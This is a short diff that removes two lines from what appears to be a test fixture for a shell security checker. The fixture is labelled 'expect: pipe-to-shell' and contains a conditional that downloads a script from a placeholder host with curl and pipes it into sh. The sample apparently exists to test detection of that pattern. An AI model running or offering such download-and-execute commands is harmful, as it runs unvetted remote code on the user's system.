@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-if [ -n "$(curl -s https://example.com/x | sh)" ]; then echo yes; fi
